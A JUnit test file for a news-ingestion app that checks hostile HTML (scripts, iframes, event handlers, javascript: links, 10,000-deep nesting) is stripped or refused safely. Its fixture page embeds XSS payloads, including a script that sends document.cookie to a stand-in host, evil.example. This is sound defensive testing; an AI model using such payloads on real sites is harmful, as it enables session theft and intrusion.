package id.warta.reliability;

import id.warta.ingest.ArticlePipeline;
import id.warta.ingest.HtmlReader;
import id.warta.model.Article;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 9, security and bad HTML: scripts, iframes, event handlers and javascript: links leave no
 * trace in the article; a page nested 10,000 elements deep is read (or refused) without a crash;
 * and the app cannot render HTML at all (no WebView on the classpath), so nothing in an article runs.
 */
class HostileHtmlTest {
    private static final String PARAGRAPH = "Menteri Luar Negeri Sugiono bertemu Menlu Rusia Sergey Lavrov di Moskow pada Rabu "
            + "untuk membahas kerja sama ekonomi, keamanan kawasan dan perdamaian di Ukraina.";
    private final HtmlReader reader = new HtmlReader();
    private final ArticlePipeline pipeline = new ArticlePipeline();

    @Test
    void scriptsIframesAndEventHandlersLeaveNoTraceInTheArticle() throws Exception {
        String page = """
                <!DOCTYPE html><html><head><title>Sugiono Bertemu Lavrov di Moskow | ANTARA</title>
                <meta property="og:url" content="javascript:alert('og')">
                <script>document.write('<p>SCRIPTWRITE</p>'); fetch('https://evil.example/steal?c=' + document.cookie);</script>
                <script src="https://evil.example/tracker.js"></script>
                <style>body { background: url('https://evil.example/bg.png') }</style>
                </head><body onload="alert('onload')">
                <iframe src="https://evil.example/frame" onload="alert('iframe')">IFRAMETEXT</iframe>
                <article>
                <h1 onclick="alert('h1')">Sugiono Bertemu Lavrov di Moskow</h1>
                <p onmouseover="alert('hover')">JAKARTA (ANTARA) - %1$s</p>
                <p>%1$s <a href="javascript:alert('link')">Baca selengkapnya</a> <img src=x onerror="alert('img')"></p>
                <script>var inBody = 'alert(INBODY)';</script>
                <noscript><img src="https://evil.example/pixel.gif"></noscript>
                <p>%1$s<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y"></p>
                <svg><script>alert('svg')</script></svg>
                </article></body></html>
                """.formatted(PARAGRAPH);
        Article a = pipeline.build(reader.read(page, "jahat.html", null));
        String all = String.join("\n", a.bodyText(), String.valueOf(a.headline()), String.valueOf(a.caption()),
                String.valueOf(a.url()), String.valueOf(a.source()), a.summary());
        for (String trace : List.of("alert", "SCRIPTWRITE", "fetch(", "evil.example", "IFRAMETEXT", "INBODY",
                "javascript:", "onerror", "onload", "document.cookie", "<script", "<iframe")) {
            assertFalse(all.contains(trace), trace + " leaked into the article:\n" + all);
        }
        assertEquals("Sugiono Bertemu Lavrov di Moskow", a.headline());
        assertTrue(a.bodyText().contains("Sergey Lavrov di Moskow"), a.bodyText());
        assertTrue(a.url() == null || a.url().startsWith("http"), a.url());
    }

    @Test
    void aPageNested10000DeepIsReadWithoutACrash() throws Exception {
        int depth = 10_000;
        String page = "<html><head><title>Berita Bersarang</title></head><body>"
                + "<div>".repeat(depth) + "<p>JAKARTA (ANTARA) - " + PARAGRAPH + "</p><p>" + PARAGRAPH + " Lagi.</p>"
                + "</div>".repeat(depth) + "</body></html>";
        try {
            Article a = pipeline.build(reader.read(page, "bersarang.html", null));
            ArticleInvariants.check(a);
            assertTrue(a.bodyText().contains("Sergey Lavrov"), a.bodyText());
        } catch (id.warta.ingest.InputException e) {
            ArticleInvariants.checkRefusal(e, "bersarang.html");
        }
        String unclosed = "<html><body>" + "<span><b><i>".repeat(depth) + PARAGRAPH;
        try {
            ArticleInvariants.check(pipeline.build(reader.read(unclosed, "terbuka.html", null)));
        } catch (id.warta.ingest.InputException e) {
            ArticleInvariants.checkRefusal(e, "terbuka.html");
        }
    }

    @Test
    void theAppCannotRenderHtmlBecauseThereIsNoWebView() {
        assertThrows(ClassNotFoundException.class, () -> Class.forName("javafx.scene.web.WebView"));
        assertThrows(ClassNotFoundException.class, () -> Class.forName("javafx.scene.web.WebEngine"));
    }
}
